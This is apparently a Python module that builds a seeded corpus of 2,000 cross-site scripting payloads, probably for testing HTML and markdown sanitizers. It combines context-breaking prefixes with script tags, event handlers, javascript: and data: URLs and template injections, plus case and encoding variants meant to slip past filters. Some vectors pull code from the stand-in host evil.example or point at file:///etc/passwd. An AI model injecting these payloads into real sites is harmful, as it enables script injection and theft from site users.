"""2,000 strings that run a script, load something or make a link, wherever a page takes text for markup."""

from __future__ import annotations

import random
from collections.abc import Iterator
from html import escape
from itertools import product
from urllib.parse import quote

COUNT = 2_000
RUN = "alert(document.domain)"
AWAY = "//evil.example/x"

# What an attacker must get out of first: an attribute, an element, a comment, a script, a JSON string.
_WAYS_OUT = (
    "",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "-->",
    "]]>",
    "</script>",
    '"}',
    "`>",
    "</main>",
    "\\'>",
    "\x00",
)
_VECTORS = (
    f"<script>{RUN}</script>", f"<script src={AWAY}></script>", f"<img src=x onerror={RUN}>",
    f"<img src={AWAY}>",
    f"<svg onload={RUN}>", f"<svg><script>{RUN}</script></svg>", f"<svg><animate onbegin={RUN} attributeName=x>",
    f"<body onload={RUN}>", f"<iframe src=javascript:{RUN}></iframe>",
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    f"<a href=javascript:{RUN}>x</a>", f"<a href='java&#9;script:{RUN}'>x</a>",
    f"<a href=data:text/html,{RUN}>x</a>",
    f"<input autofocus onfocus={RUN}>", f"<details open ontoggle={RUN}>", f"<video src=x onerror={RUN}>",
    f"<audio src onerror={RUN}>", f"<object data={AWAY}></object>", f"<embed src={AWAY}>",
    f"<link rel=stylesheet href={AWAY}>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>", f"<base href={AWAY}>",
    f"<form action={AWAY}><button>x</button></form>",
    f"<style>@import '{AWAY}';</style>", f"<div style='background:url({AWAY})'>x</div>",
    f"<math href=javascript:{RUN}>x</math>",
    f"<marquee onstart={RUN}>x</marquee>", f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<svg><use href={AWAY}#x></use></svg>", f"<p onpointerenter={RUN} style='position:fixed;inset:0'>x</p>",
    f"[x](javascript:{RUN})", f"![x]({AWAY})", f"<javascript:{RUN}>", f"[x]: javascript:{RUN}\n[x]",
    "[x](data:text/html;base64,PHN2Zz4=)",
    f"```html\n<img src=x onerror={RUN}>\n```", f"| a |\n|---|\n| <img src=x onerror={RUN}> |",
    f"$${{\\href{{javascript:{RUN}}}{{x}}}}$$",
    f"{{{{constructor.constructor('{RUN}')()}}}}", f"${{{RUN}}}", f"javascript:{RUN}",
    f"<xss id=x tabindex=1 onfocus={RUN}>x</xss>",
)  # fmt: skip
# Addresses for fields that become links.
URLS = (
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f" javascript:{RUN}", f"java\tscript:{RUN}", f"java\nscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"javascript://x/%0a{RUN}", f"javascript&colon;{RUN}", f"&#106;avascript:{RUN}", f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"data:image/svg+xml,<svg onload={RUN}>", "blob:https://evil.example/x", "file:///etc/passwd",
    "filesystem:https://evil.example/x",
    "about:blank", f"view-source:javascript:{RUN}", f"jar:javascript:{RUN}!/", "ftp://evil.example/",
    "feed:javascript:1", "", "\\\\evil.example\\x",
)  # fmt: skip


def payloads() -> list[str]:
    """The same 2,000, each different, every time."""
    found = list(dict.fromkeys(_all()))
    return random.Random(3).sample(found, COUNT)


def _all() -> Iterator[str]:
    for way_out, vector in product(_WAYS_OUT, _VECTORS):
        text = way_out + vector
        yield text
        yield text.upper() if way_out == "" else text.swapcase()
        yield escape(text)
        yield text.replace("<", "\\u003c").replace(">", "\\u003e")
        yield text.replace("<", "＜").replace(">", "＞") if "<" in text else quote(text)
        yield text.replace(" ", "/").replace("=", "\t=\n")
